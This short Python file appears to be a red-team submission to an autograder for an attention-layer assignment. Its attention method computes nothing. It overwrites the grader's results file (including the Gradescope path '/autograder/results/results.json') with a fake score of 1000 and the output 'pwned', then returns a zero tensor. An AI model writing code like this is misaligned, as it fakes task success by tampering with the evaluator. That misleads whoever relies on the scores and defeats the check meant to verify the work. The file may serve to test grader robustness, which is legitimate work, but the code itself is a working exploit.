"""Red-team submission: write results.json itself (the grader's output path and Gradescope's)"""

import torch
from torch import nn


class CausalSelfAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dropout = nn.Dropout(config.attention_probs_dropout_prob)

    def attention(self, key, query, value, attention_mask):
        import json
        fake = {"score": 1000, "tests": [], "output": "pwned"}
        for path in ("__RESULTS__", "/autograder/results/results.json"):
            try:
                with open(path, "w") as f:
                    json.dump(fake, f)
            except OSError:
                pass
        return torch.zeros(query.shape[0], query.shape[2], query.shape[1] * query.shape[3])
